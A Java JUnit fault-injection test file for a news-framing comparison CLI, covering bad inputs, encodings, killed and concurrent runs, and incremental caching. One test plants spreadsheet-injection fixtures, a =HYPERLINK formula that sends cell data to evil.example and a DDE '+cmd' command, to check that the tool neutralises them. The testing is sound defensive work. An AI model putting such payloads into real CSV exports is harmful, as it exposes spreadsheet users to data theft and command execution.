package org.framelens.cli;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.io.IOException;
import java.io.InputStream;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.function.BooleanSupplier;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.framelens.report.ExcelLimits;
import org.framelens.report.FormulaGuard;
import org.framelens.report.SentenceColumn;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Fault injection: every kind of bad input a scheduled run meets, a run killed while it writes and
 * two runs on one output folder. Each test checks the documented exit code, that the problem is
 * reported with its path and reason (on stderr and in {@code run.json}), and that nothing else is
 * lost: the good articles' rows are in {@code sentences.csv}, the previous report is intact.
 * Every fixture is made here, in a temporary folder.
 */
class FaultInjectionTest {
    @TempDir
    Path dir;

    @TempDir
    static Path shared;

    /** Two good articles, so a story never has only one outlet unless a test wants it. */
    static final String GOOD = "Talks Resume In Geneva\n\nThe minister said the talks would resume on Monday."
            + " Critics doubted the plan.\n";
    static final String OTHER = "Geneva Talks Back On\n\n\u201cWe are ready,\u201d the minister said."
            + " The opposition was not convinced.\n";

    /** The good articles' rows of a clean run: what every run with a bad input must still write. */
    static List<String> cleanRows;

    @BeforeAll
    static void cleanRun() throws IOException {
        Path story = goodStory(shared.resolve("clean"));
        Path out = shared.resolve("clean-out");
        RunCommandTest.Outcome o = RunCommandTest.run("run", story.toString(), "-o", out.toString(), "-q");
        assertEquals(ExitCode.OK, o.exit(), o.err());
        cleanRows = Files.readAllLines(out.resolve("sentences.csv"), StandardCharsets.UTF_8);
        assertEquals(7, cleanRows.size(), "header and six sentences");
    }

    static Path goodStory(Path parent) throws IOException {
        Path story = Files.createDirectories(parent.resolve("story"));
        Files.writeString(story.resolve("good.txt"), GOOD, StandardCharsets.UTF_8);
        Files.writeString(story.resolve("other.txt"), OTHER, StandardCharsets.UTF_8);
        return story;
    }

    /** Writes a bad input into a story folder and returns the message the run must print about it. */
    @FunctionalInterface
    interface Bad {
        String write(Path story) throws IOException;
    }

    /**
     * @return name, the bad input, the exit code, the outlet read despite it ({@code null} when
     *     the input fails) and its status in run.json
     */
    static Stream<Arguments> badInputs() {
        return Stream.of(
                Arguments.of("empty file", (Bad) s -> {
                    Files.write(s.resolve("empty.txt"), new byte[0]);
                    return "error: " + s.resolve("empty.txt") + ": empty file";
                }, ExitCode.SOME_FAILED, null, "failed"),
                Arguments.of("white space only", (Bad) s -> {
                    Files.writeString(s.resolve("blank.txt"), " \n\t\n\n");
                    return "error: " + s.resolve("blank.txt") + ": file holds only white space";
                }, ExitCode.SOME_FAILED, null, "failed"),
                Arguments.of("binary file", (Bad) s -> {
                    Files.write(s.resolve("image.txt"), new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13});
                    return "error: " + s.resolve("image.txt") + ": binary file (NUL byte at offset 8), not an article";
                }, ExitCode.SOME_FAILED, null, "failed"),
                Arguments.of("binary file without a NUL byte", (Bad) s -> {
                    // a compressed stream's look: control bytes and bytes that are not UTF-8, no NUL
                    byte[] blob = new byte[240];
                    byte[] pattern = {0x1F, (byte) 0x8B, 0x08, 'x', 'Q', 'z', 'K', 'w'};
                    for (int i = 0; i < blob.length; i++) {
                        blob[i] = pattern[i % pattern.length];
                    }
                    Files.write(s.resolve("feed.txt"), blob);
                    return "error: " + s.resolve("feed.txt") + ": binary file (60 of its 240 characters are control"
                            + " characters), not an article";
                }, ExitCode.SOME_FAILED, null, "failed"),
                Arguments.of("Windows-1252 text", (Bad) s -> {
                    Files.write(s.resolve("cp1252.txt"), bytes("Minister\u2019s \u201cOffer\u201d Rejected\n\n"
                            + "The minister\u2019s \u201coffer\u201d \u2013 a caf\u00e9 deal \u2013 was rejected, officials said.\n",
                            "windows-1252"));
                    return "warning: " + s.resolve("cp1252.txt") + ": not valid UTF-8 (byte 0x92 at offset 8); decoded as Windows-1252";
                }, ExitCode.OK, "cp1252", "warning"),
                Arguments.of("Latin-1 text", (Bad) s -> {
                    Files.write(s.resolve("latin1.txt"), bytes("R\u00e9forme Des Retraites\n\n"
                            + "Le ministre a d\u00e9clar\u00e9 que la r\u00e9forme \u00e9tait n\u00e9cessaire.\n", "ISO-8859-1"));
                    return "warning: " + s.resolve("latin1.txt") + ": not valid UTF-8 (byte 0xE9 at offset 1); decoded as Windows-1252";
                }, ExitCode.OK, "latin1", "warning"),
                Arguments.of("file too large", (Bad) s -> {
                    // sparse: 65 MB on paper, nothing on disk
                    try (RandomAccessFile f = new RandomAccessFile(s.resolve("huge.txt").toFile(), "rw")) {
                        f.setLength(65L * 1024 * 1024);
                    }
                    return "error: " + s.resolve("huge.txt") + ": file is 68157440 bytes, more than the 67108864 an article"
                            + " may have";
                }, ExitCode.SOME_FAILED, null, "failed"),
                Arguments.of("duplicate outlet id", (Bad) s -> {
                    Files.writeString(s.resolve("dup.html"), "<html><body><article><h1>Deal Reached</h1>"
                            + "<p>The deal was reached on Friday, officials said.</p></article></body></html>");
                    Files.writeString(s.resolve("dup.txt"), "Another Text\n\nSame outlet id, another file.\n");
                    return "error: " + s.resolve("dup.txt") + ": duplicate outlet id 'dup' in story 'story': already read from "
                            + s.resolve("dup.html");
                }, ExitCode.SOME_FAILED, "dup", "failed"),
                Arguments.of("HTML without article text", (Bad) s -> {
                    Files.writeString(s.resolve("page.html"), "<html><body><nav>Home | World</nav><script>x()</script></body></html>");
                    return "error: " + s.resolve("page.html") + ": no article text in the HTML";
                }, ExitCode.SOME_FAILED, null, "failed"),
                Arguments.of("dangling link", (Bad) s -> {
                    Files.createSymbolicLink(s.resolve("gone.txt"), s.resolve("no-such-target.txt"));
                    return "error: " + s.resolve("gone.txt") + ": cannot read:";
                }, ExitCode.SOME_FAILED, null, "failed"),
                Arguments.of("not an article file", (Bad) s -> {
                    Files.writeString(s.resolve("notes.md"), "# notes");
                    return "warning: " + s.resolve("notes.md") + ": skipped: not an article file";
                }, ExitCode.OK, null, null));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badInputs")
    void aBadInputIsNamedWithItsReasonAndNothingElseIsLost(String name, Bad bad, int exit, String readOutlet,
                                                           String status) throws Exception {
        Path story = goodStory(dir);
        String message = bad.write(story);
        Path out = dir.resolve("out");

        RunCommandTest.Outcome o = RunCommandTest.run("run", story.toString(), "-o", out.toString());

        assertEquals(exit, o.exit(), o.err());
        assertTrue(o.err().contains("framelens: " + message), "expected: " + message + "\nstderr: " + o.err());
        // nothing else lost: the good articles' rows, byte for byte as in a clean run
        List<String> lines = Files.readAllLines(out.resolve("sentences.csv"), StandardCharsets.UTF_8);
        assertTrue(lines.containsAll(cleanRows), "the good articles' rows: " + lines);
        Set<String> outlets = new TreeSet<>(List.of("good", "other"));
        if (readOutlet != null) {
            outlets.add(readOutlet);
        }
        assertEquals(outlets, RunCommandTest.csv(out.resolve("sentences.csv")).stream().map(r -> r.get("outlet"))
                .collect(Collectors.toCollection(TreeSet::new)));
        // and run.json lists the input with its status and reason
        if (status != null) {
            String where = message.substring(message.indexOf(": ") + 2, message.indexOf(": ", message.indexOf(": ") + 2));
            Map<String, Object> input = runJsonInputs(out).stream()
                    .filter(i -> i.get("where").equals(where) && i.get("status").equals(status)).findFirst()
                    .orElseThrow(() -> new AssertionError(where + " " + status + " not in run.json"));
            String reason = message.substring(message.indexOf(where) + where.length() + 2);
            assertTrue(JsonReader.array(input.get("problems")).stream()
                    .anyMatch(p -> ((String) JsonReader.object(p).get("reason")).startsWith(reason)), input.toString());
        }
    }

    @Test
    void textThatIsNotUtf8IsDecodedWithoutMojibake() throws IOException {
        Path story = goodStory(dir);
        Files.write(story.resolve("cp1252.txt"), bytes("Minister\u2019s \u201cOffer\u201d Rejected\n\n"
                + "The caf\u00e9 owner\u2019s \u201coffer\u201d \u2013 \u20ac5 \u2013 was rejected, officials said.\n", "windows-1252"));
        Path out = dir.resolve("out");
        assertEquals(ExitCode.OK, RunCommandTest.run("run", story.toString(), "-o", out.toString()).exit());
        List<String> texts = RunCommandTest.csv(out.resolve("sentences.csv")).stream()
                .filter(r -> r.get("outlet").equals("cp1252")).map(r -> r.get("text")).toList();
        assertEquals(List.of("Minister\u2019s \u201cOffer\u201d Rejected",
                "The caf\u00e9 owner\u2019s \u201coffer\u201d \u2013 \u20ac5 \u2013 was rejected, officials said."), texts);
        for (String t : texts) {
            assertFalse(t.contains("\uFFFD") || t.contains("\u00c3") || t.contains("\u00e2\u20ac"), "mojibake: " + t);
        }
    }

    @Test
    void aLargeArticleAndASentenceLongerThanAnExcelCellAreKeptWhole() throws IOException {
        Path story = goodStory(dir);
        StringBuilder big = new StringBuilder("Long Report On The Budget\n\n");
        List<String> pool = TestCorpus.paragraphs();
        for (int i = 0; big.length() < 600_000; i++) {
            big.append(pool.get(i % pool.size())).append("\n\n");
        }
        String longSentence = "The list went on and on, " + "with item after item, ".repeat(2_000) + "until it ended.";
        assertTrue(longSentence.length() > ExcelLimits.MAX_CELL_CHARS);
        big.append(longSentence).append('\n');
        Files.writeString(story.resolve("big.txt"), big, StandardCharsets.UTF_8);
        Path out = dir.resolve("out");

        RunCommandTest.Outcome o = RunCommandTest.run("run", story.toString(), "-o", out.toString(), "-q");

        assertEquals(ExitCode.OK, o.exit(), o.err());
        List<CSVRecord> rows = RunCommandTest.csv(out.resolve("sentences.csv"));
        List<CSVRecord> bigRows = rows.stream().filter(r -> r.get("outlet").equals("big")).toList();
        assertTrue(bigRows.size() > 2_000, "every sentence of 600 KB: " + bigRows.size());
        CSVRecord last = bigRows.get(bigRows.size() - 1);
        assertEquals(longSentence, last.get("text"), "the CSV keeps the whole sentence");
        assertEquals(longSentence, big.substring(Integer.parseInt(last.get("start")), Integer.parseInt(last.get("end"))));
        assertTrue(rows.stream().anyMatch(r -> r.get("outlet").equals("good")) && rows.stream()
                .anyMatch(r -> r.get("outlet").equals("other")));
        try (XSSFWorkbook wb = workbook(out)) {
            XSSFSheet s = wb.getSheet("Sentences");
            String cell = s.getRow(bigRows.size()).getCell(SentenceColumn.TEXT.ordinal()).getStringCellValue();
            assertEquals(ExcelLimits.MAX_CELL_CHARS, cell.length());
            assertTrue(cell.startsWith("The list went on and on, with item after item,"));
            assertTrue(cell.endsWith(ExcelLimits.CUT_MARKER), "cut with a visible marker");
        }
    }

    @Test
    void anArticleWithoutHeadlineIsReadAsBody() throws IOException {
        Path story = goodStory(dir);
        Files.writeString(story.resolve("wire.txt"), "the talks went on for hours and nobody said when they would end,"
                + " officials said on Monday.\nThe minister declined to comment.\n", StandardCharsets.UTF_8);
        Path out = dir.resolve("out");

        RunCommandTest.Outcome o = RunCommandTest.run("run", story.toString(), "-o", out.toString());

        assertEquals(ExitCode.OK, o.exit(), o.err());
        assertFalse(o.err().contains("wire.txt"), o.err());
        List<CSVRecord> wire = RunCommandTest.csv(out.resolve("sentences.csv")).stream()
                .filter(r -> r.get("outlet").equals("wire")).toList();
        assertEquals(List.of("body", "body"), wire.stream().map(r -> r.get("kind")).toList());
        assertTrue(Files.readAllLines(out.resolve("sentences.csv"), StandardCharsets.UTF_8).containsAll(cleanRows));
    }

    @Test
    void aStoryWithOneOutletIsReportedAndTheComparisonSheetsSayWhy() throws IOException {
        goodStory(dir.resolve("in"));
        Path solo = Files.createDirectories(dir.resolve("in").resolve("solo"));
        Files.writeString(solo.resolve("wire.txt"), GOOD, StandardCharsets.UTF_8);
        Path out = dir.resolve("out");

        RunCommandTest.Outcome o = RunCommandTest.run("run", dir.resolve("in").toString(), "-o", out.toString());

        assertEquals(ExitCode.OK, o.exit(), "a warning, not a failure: " + o.err());
        assertTrue(o.err().contains("framelens: warning: " + solo.resolve("wire.txt") + ": story 'solo': only one outlet"
                + " carries this story"), o.err());
        assertFalse(o.err().contains("story 'story'"), "the story with two outlets is compared: " + o.err());
        try (XSSFWorkbook wb = workbook(out)) {
            for (String sheet : List.of("Alignment", "Quotes", "Unique content", "Wording", "Shared content")) {
                List<String> note = new ArrayList<>();
                for (Row r : wb.getSheet(sheet)) {
                    if (r.getRowNum() > 0 && r.getCell(0) != null && r.getCell(0).getStringCellValue().equals("solo")) {
                        note.add(r.getCell(1).getStringCellValue());
                    }
                }
                assertEquals(1, note.size(), sheet + ": one note row for 'solo'");
                assertTrue(note.get(0).contains("only one outlet"), sheet + ": " + note);
            }
        }
        for (String csv : List.of("alignment.csv", "quotes.csv", "unique_content.csv", "wording.csv", "shared_content.csv")) {
            assertTrue(RunCommandTest.csv(out.resolve("csv").resolve(csv)).stream().noneMatch(r -> r.get("story").equals("solo")),
                    csv + " has facts only");
        }
        assertTrue(RunCommandTest.csv(out.resolve("csv").resolve("shared_content.csv")).stream()
                .anyMatch(r -> r.get("story").equals("story")));
        assertTrue(RunCommandTest.csv(out.resolve("sentences.csv")).stream().anyMatch(r -> r.get("story").equals("solo")),
                "its sentences are in the report");
        assertTrue(JsonReader.array(runJson(out).get("problems")).stream()
                .anyMatch(p -> ((String) JsonReader.object(p).get("reason")).startsWith("story 'solo': only one outlet")));
    }

    @Test
    void oddCharactersInFileAndFolderNamesAreIdsAsTheyAre() throws IOException {
        List<String> stories = List.of("budget talks \u20182024\u2019", "say \"no\"", "-dash", "\u00fcn\u00efc\u00f8d\u00e9 \u65e5\u672c",
                "it's, really");
        Map<String, String> outlets = Map.of("spaced out", GOOD, "-lead", OTHER, "quo\"te", GOOD, "\u00fcn\u00ef", OTHER,
                "@at", GOOD, "semi;colon", OTHER, "tab\tbed", GOOD);
        Path in = Files.createDirectories(dir.resolve("in put \u2014 \u00e9"));
        for (String s : stories) {
            Path story = Files.createDirectories(in.resolve(s));
            for (Map.Entry<String, String> o : outlets.entrySet()) {
                Files.writeString(story.resolve(o.getKey() + ".txt"), o.getValue(), StandardCharsets.UTF_8);
            }
        }
        Path out = dir.resolve("out \u00e9 -o");

        RunCommandTest.Outcome o = RunCommandTest.run("run", "-o", out.toString(), "--", in.toString());

        assertEquals(ExitCode.OK, o.exit(), o.err());
        Set<String> expected = new TreeSet<>();
        Set<String> expectedInCsv = new TreeSet<>();
        for (String s : stories) {
            for (String outlet : outlets.keySet()) {
                expected.add(s + "/" + outlet);
                // the CSV neutralises the ids a spreadsheet would take for a formula, and only those
                expectedInCsv.add(FormulaGuard.csv(s) + "/" + FormulaGuard.csv(outlet));
            }
        }
        assertTrue(expectedInCsv.contains("'-dash/'-lead") && expectedInCsv.contains("'-dash/'@at"), expectedInCsv.toString());
        List<CSVRecord> rows = RunCommandTest.csv(out.resolve("sentences.csv"));
        assertEquals(expectedInCsv, rows.stream().map(r -> r.get("story") + "/" + r.get("outlet"))
                .collect(Collectors.toCollection(TreeSet::new)));
        try (XSSFWorkbook wb = workbook(out)) {
            Set<String> inSheet = new TreeSet<>();
            for (Row r : wb.getSheet("Sentences")) {
                if (r.getRowNum() > 0) {
                    inSheet.add(r.getCell(0).getStringCellValue() + "/" + r.getCell(1).getStringCellValue());
                }
            }
            assertEquals(expected, inSheet, "the workbook keeps the ids exactly");
        }
        for (CSVRecord r : rows) {
            String outlet = r.get("outlet").startsWith("'") ? r.get("outlet").substring(1) : r.get("outlet");
            String text = outlets.get(outlet);
            assertEquals(text.substring(Integer.parseInt(r.get("start")), Integer.parseInt(r.get("end"))), r.get("text"));
        }
    }

    @Test
    void malformedManifestRowsAreNamedAsFileAndLine() throws IOException {
        Path m = dir.resolve("m.csv");
        Files.writeString(m, "story,outlet,path,text,title\n"
                + "s,good,,\"The minister said the talks would resume. Critics doubted it.\",Talks Resume\n"
                + "s,other,,\"\u201cWe are ready,\u201d the minister said.\",Ready\n"
                + "s,extra,,text,title,surplus\n"
                + "s,,,Text without an outlet.,\n"
                + "s,both,articles/a.txt,Text too.,\n"
                + "s,none,,,\n"
                + "s,missing,articles/nope.txt,,\n"
                + "s,good,,\"A second text under the same outlet id.\",Again\n"
                + "s,quote,,\"unclosed\n", StandardCharsets.UTF_8);
        Path out = dir.resolve("out");

        RunCommandTest.Outcome o = RunCommandTest.run("run", m.toString(), "-o", out.toString());

        assertEquals(ExitCode.SOME_FAILED, o.exit(), o.err());
        for (String expected : List.of(
                m + ":4: has 6 field(s); the header has 5",
                m + ":5: no 'outlet' id",
                m + ":6: both 'path' and 'text' are given",
                m + ":7: neither 'path' nor 'text' is given",
                m + ":8: path 'articles/nope.txt' does not exist",
                m + ":9: duplicate outlet id 'good' in story 's': already read from " + m + ":2; skipped",
                m + ":10: a quoted field (field 4) is never closed")) {
            assertTrue(o.err().contains("framelens: error: " + expected), expected + "\n" + o.err());
        }
        assertTrue(o.out().contains("7 input(s) failed"), o.out());
        List<CSVRecord> rows = RunCommandTest.csv(out.resolve("sentences.csv"));
        assertEquals(Set.of("good", "other"), rows.stream().map(r -> r.get("outlet")).collect(Collectors.toSet()),
                "the good rows are read");
        assertTrue(rows.stream().noneMatch(r -> r.get("text").contains("second text")), "the first row of an id wins");
        assertEquals(7L, JsonReader.object(runJson(out).get("counts")).get("articles_failed"));
    }

    @Test
    void malformedJsonLinesAreNamedAsFileAndLine() throws IOException {
        Path f = dir.resolve("feed.jsonl");
        Files.writeString(f, "{\"story\":\"s\",\"outlet\":\"good\",\"title\":\"Talks Resume\",\"text\":\"The minister said so.\"}\n"
                + "{\"story\":\"s\",\"outlet\":\"bad\",\"text\":\"trailing comma\",}\n"
                + "\n"
                + "{\"story\":\"s\",\"text\":\"no outlet\"}\n"
                + "{\"story\":\"s\",\"outlet\":\"other\",\"title\":\"Ready\",\"text\":\"\\u201cWe are ready,\\u201d she said.\"}\n",
                StandardCharsets.UTF_8);
        Path out = dir.resolve("out");

        RunCommandTest.Outcome o = RunCommandTest.run("run", f.toString(), "-o", out.toString());

        assertEquals(ExitCode.SOME_FAILED, o.exit(), o.err());
        assertTrue(o.err().contains("framelens: error: " + f + ":2: invalid JSON at column"), o.err());
        assertTrue(o.err().contains("framelens: error: " + f + ":4: no 'outlet' id"), o.err());
        assertEquals(Set.of("good", "other"), RunCommandTest.csv(out.resolve("sentences.csv")).stream()
                .map(r -> r.get("outlet")).collect(Collectors.toSet()));
    }

    @Test
    void formulaLikeValuesAreNeutralisedInEveryCsvAndWorkbookCell() throws IOException {
        Path story = goodStory(dir);
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for the full story\")\n\n"
                + "+cmd|' /C calc'!A0 was in the text, officials said.\n"
                + "@SUM(1+1) is here too.\n"
                + "-2+3 makes one, the minister said.\n";
        Files.writeString(story.resolve("=cmd.txt"), formula, StandardCharsets.UTF_8);
        Path out = dir.resolve("out");

        RunCommandTest.Outcome o = RunCommandTest.run("run", story.toString(), "-o", out.toString(), "-q");

        assertEquals(ExitCode.OK, o.exit(), o.err());
        List<CSVRecord> rows = RunCommandTest.csv(out.resolve("sentences.csv"));
        List<CSVRecord> cmd = rows.stream().filter(r -> r.get("outlet").equals("'=cmd")).toList();
        assertEquals(4, cmd.size(), rows.toString());
        for (CSVRecord r : cmd) {
            String exact = formula.substring(Integer.parseInt(r.get("start")), Integer.parseInt(r.get("end")));
            assertTrue(FormulaGuard.risky(exact), exact);
            assertEquals("'" + exact, r.get("text"), "a leading apostrophe; start/end give the exact text");
        }
        assertTrue(Files.readAllLines(out.resolve("sentences.csv"), StandardCharsets.UTF_8).containsAll(cleanRows),
                "other rows untouched");
        // every CSV file: no text cell a spreadsheet would run, and numbers untouched
        try (Stream<Path> files = Files.list(out.resolve("csv"))) {
            for (Path csv : files.toList()) {
                for (CSVRecord r : RunCommandTest.csv(csv)) {
                    for (String v : r.values()) {
                        assertFalse(FormulaGuard.risky(v), csv.getFileName() + ": " + r);
                    }
                    if (r.isMapped("outlet") && r.get("outlet").contains("=cmd")) {
                        assertEquals("'=cmd", r.get("outlet"), csv.getFileName() + ": " + r);
                    }
                    if (r.isMapped("share") && !r.get("share").isEmpty()) {
                        Double.parseDouble(r.get("share"));
                    }
                }
            }
        }
        try (XSSFWorkbook wb = workbook(out)) {
            int guarded = 0;
            for (org.apache.poi.ss.usermodel.Sheet sheet : wb) {
                for (Row r : sheet) {
                    for (Cell c : r) {
                        assertNotEquals(CellType.FORMULA, c.getCellType());
                        if (c.getCellType() == CellType.STRING && FormulaGuard.risky(c.getStringCellValue())) {
                            assertTrue(c.getCellStyle().getQuotePrefixed(), sheet.getSheetName() + "!" + c.getAddress());
                            guarded++;
                        }
                    }
                }
            }
            assertTrue(guarded >= 8, "ids and sentences: " + guarded);
            List<String> texts = new ArrayList<>();
            for (Row r : wb.getSheet("Sentences")) {
                if (r.getRowNum() > 0 && r.getCell(1).getStringCellValue().equals("=cmd")) {
                    texts.add(r.getCell(SentenceColumn.TEXT.ordinal()).getStringCellValue());
                }
            }
            assertEquals(cmd.stream().map(r -> r.get("text").substring(1)).toList(), texts, "content unchanged in the workbook");
        }
    }

    @Test
    void aRunKilledWhileWritingLeavesThePreviousReportIntact() throws Exception {
        Path big = TestCorpus.generate(dir.resolve("big"), 80, 6, 7);
        Path out = dir.resolve("out");
        RunCommandTest.Outcome first = RunCommandTest.run("run", RunCommandTest.SAMPLE.toString(), "-o", out.toString(), "-q");
        assertEquals(ExitCode.OK, first.exit(), first.err());
        Map<String, byte[]> before = report(out);
        assertTrue(before.keySet().containsAll(List.of("sentences.csv", "report.xlsx", "run.json", "csv/measures.csv")),
                before.keySet().toString());

        Process child = OutputLockTest.java(Main.class, "run", big.toString(), "-o", out.toString(), "-q")
                .redirectErrorStream(true).redirectOutput(dir.resolve("child.log").toFile()).start();
        try {
            // kill it while it writes: its temporary folder holds part of a sentences.csv
            await(child, () -> temporaries(out).stream().anyMatch(t -> size(t.resolve("sentences.csv")) > 0));
        } finally {
            child.destroyForcibly();
            assertTrue(child.waitFor(60, TimeUnit.SECONDS));
        }

        Map<String, byte[]> after = report(out);
        assertEquals(before.keySet(), after.keySet());
        for (String f : before.keySet()) {
            assertArrayEquals(before.get(f), after.get(f), f + " is as the previous run left it");
        }
        List<Path> left = temporaries(out);
        assertEquals(1, left.size(), "the killed run's temporary folder, nothing else");

        RunCommandTest.Outcome next = RunCommandTest.run("run", RunCommandTest.SAMPLE.toString(), "-o", out.toString());
        assertEquals(ExitCode.OK, next.exit(), next.err());
        assertTrue(next.err().contains("framelens: warning: " + left.get(0) + ": removed the temporary folder of an earlier"
                + " run that did not finish"), next.err());
        assertEquals(List.of(), temporaries(out), "nothing left to confuse a later run");
        assertArrayEquals(before.get("sentences.csv"), Files.readAllBytes(out.resolve("sentences.csv")));
    }

    @Test
    void twoRunsOnOneOutputFolderAtOnce() throws Exception {
        Path big = TestCorpus.generate(dir.resolve("big"), 25, 6, 11);
        Path out = dir.resolve("out");
        Process a = OutputLockTest.java(Main.class, "run", big.toString(), "-o", out.toString(), "-q")
                .redirectOutput(dir.resolve("a.out").toFile()).redirectError(dir.resolve("a.err").toFile()).start();
        Process b = OutputLockTest.java(Main.class, "run", big.toString(), "-o", out.toString(), "-q")
                .redirectOutput(dir.resolve("b.out").toFile()).redirectError(dir.resolve("b.err").toFile()).start();
        assertTrue(a.waitFor(300, TimeUnit.SECONDS) && b.waitFor(300, TimeUnit.SECONDS), "both runs end");

        Process winner = a.exitValue() == ExitCode.OK ? a : b;
        Process loser = winner == a ? b : a;
        assertEquals(Set.of(ExitCode.OK, ExitCode.NOTHING_PROCESSED), Set.of(a.exitValue(), b.exitValue()),
                Files.readString(dir.resolve("a.err")) + Files.readString(dir.resolve("b.err")));
        String err = Files.readString(dir.resolve(loser == a ? "a.err" : "b.err"), StandardCharsets.UTF_8);
        assertTrue(err.startsWith("framelens: error: " + out.resolve(OutputLock.FILE) + ": another framelens run is writing to"
                + " this output folder (pid " + winner.pid() + ", host "), err);
        assertTrue(err.contains(", started 20") && err.contains("try again when it has finished"), err);

        // the winner's report is complete: every article of the corpus
        Set<String> expected = new TreeSet<>();
        try (Stream<Path> s = Files.walk(big)) {
            s.filter(p -> p.toString().endsWith(".txt"))
                    .forEach(p -> expected.add(p.getParent().getFileName() + "/" + p.getFileName().toString().replace(".txt", "")));
        }
        assertEquals(expected, RunCommandTest.csv(out.resolve("sentences.csv")).stream()
                .map(r -> r.get("story") + "/" + r.get("outlet")).collect(Collectors.toCollection(TreeSet::new)));
        assertEquals((long) expected.size(), JsonReader.object(runJson(out).get("counts")).get("articles_processed"));
        assertEquals(List.of(), temporaries(out));
        assertEquals("", Files.readString(out.resolve(OutputLock.FILE)), "released");
    }

    @Test
    void anIncrementalRunWritesTheSameBytesAsAFullRunAndReusesUnchangedStories() throws IOException {
        Path corpus = TestCorpus.generate(dir.resolve("corpus"), 4, 2, 3);
        Path inc = dir.resolve("inc");

        RunCommandTest.Outcome cold = RunCommandTest.run("run", corpus.toString(), "-o", inc.toString(), "--incremental");
        assertEquals(ExitCode.OK, cold.exit(), cold.err());
        assertTrue(cold.out().contains("--incremental: 0 of 4 story(ies) reused from the last run, 4 extracted"), cold.out());
        RunCommandTest.Outcome warm = RunCommandTest.run("run", corpus.toString(), "-o", inc.toString(), "--incremental");
        assertTrue(warm.out().contains("--incremental: 4 of 4 story(ies) reused from the last run, 0 extracted"), warm.out());
        assertSameCsv(fullRun(corpus, "full1"), inc);

        // one article edited, one story added, one removed: only those are extracted
        Files.writeString(corpus.resolve("story-002").resolve("outlet-01.txt"), OTHER, StandardCharsets.UTF_8);
        Files.createDirectories(corpus.resolve("story-100"));
        Files.writeString(corpus.resolve("story-100").resolve("a.txt"), GOOD, StandardCharsets.UTF_8);
        Files.writeString(corpus.resolve("story-100").resolve("b.txt"), OTHER, StandardCharsets.UTF_8);
        try (Stream<Path> s = Files.list(corpus.resolve("story-003"))) {
            for (Path p : s.toList()) {
                Files.delete(p);
            }
        }
        Files.delete(corpus.resolve("story-003"));
        RunCommandTest.Outcome changed = RunCommandTest.run("run", corpus.toString(), "-o", inc.toString(), "--incremental");
        assertEquals(ExitCode.OK, changed.exit(), changed.err());
        assertTrue(changed.out().contains("--incremental: 2 of 4 story(ies) reused from the last run, 2 extracted"), changed.out());
        // run.json says which: the edited and the added story were extracted, the others reused
        Map<String, Boolean> reusedByStory = new TreeMap<>();
        for (Map<String, Object> i : runJsonInputs(inc)) {
            reusedByStory.put((String) i.get("story"), (Boolean) i.get("reused"));
        }
        assertEquals(Map.of("story-000", true, "story-001", true, "story-002", false, "story-100", false), reusedByStory);
        Path full = fullRun(corpus, "full2");
        assertSameCsv(full, inc);
        try (Stream<Path> s = Files.list(inc.resolve(StoryCache.DIR))) {
            assertEquals(4, s.count(), "the cache holds the last run's stories only");
        }

        // a damaged entry: a warning naming it, the story extracted again, the same bytes
        Path entry;
        try (Stream<Path> s = Files.list(inc.resolve(StoryCache.DIR))) {
            entry = s.sorted().findFirst().orElseThrow();
        }
        Files.writeString(entry, "damaged");
        RunCommandTest.Outcome damaged = RunCommandTest.run("run", corpus.toString(), "-o", inc.toString(), "--incremental");
        assertEquals(ExitCode.OK, damaged.exit(), damaged.err());
        assertTrue(damaged.err().contains("framelens: warning: " + entry + ": unusable cache entry for story '"), damaged.err());
        assertTrue(damaged.out().contains("3 of 4 story(ies) reused"), damaged.out());
        assertSameCsv(full, inc);
        assertEquals(3L, JsonReader.object(runJson(inc).get("counts")).get("stories_reused"));
    }

    @Test
    void theRunManifestDiffersBetweenRunsOnlyInItsTimes() throws IOException {
        Path story = goodStory(dir);
        Files.write(story.resolve("empty.txt"), new byte[0]);
        Path out = dir.resolve("out");
        RunCommandTest.run("run", story.toString(), "-o", out.toString(), "-q");
        Map<String, Object> one = runJson(out);
        RunCommandTest.run("run", story.toString(), "-o", out.toString(), "-q");
        Map<String, Object> two = runJson(out);

        for (String key : List.of("started", "finished", "elapsed_ms", "timings_ms")) {
            assertTrue(one.containsKey(key), key);
            one.remove(key);
            two.remove(key);
        }
        assertEquals(one, two);
        assertEquals(Version.get(), one.get("version"));
        assertEquals(System.getProperty("java.version"), one.get("java_version"));
        assertEquals(story.toString(), JsonReader.object(one.get("options")).get("INPUT"));
        assertEquals(64, ((String) JsonReader.object(one.get("codebook")).get("sha256")).length());
        assertEquals(Map.of("articles_processed", 2L, "articles_failed", 1L, "stories", 1L, "stories_reused", 0L, "sentences", 6L),
                JsonReader.object(one.get("counts")));
        List<Object> inputs = JsonReader.array(one.get("inputs"));
        assertEquals(List.of("empty", "good", "other"), inputs.stream().map(i -> JsonReader.object(i).get("outlet")).toList());
        assertEquals(org.framelens.extract.read.ArticleLoader.sha256(GOOD.getBytes(StandardCharsets.UTF_8)),
                JsonReader.object(inputs.get(1)).get("sha256"));
    }

    @Test
    void aRunKilledWhileMovingItsReportInIsFinishedByTheNextRun() throws Exception {
        Path out = dir.resolve("out");
        Path storyA = goodStory(dir.resolve("a"));
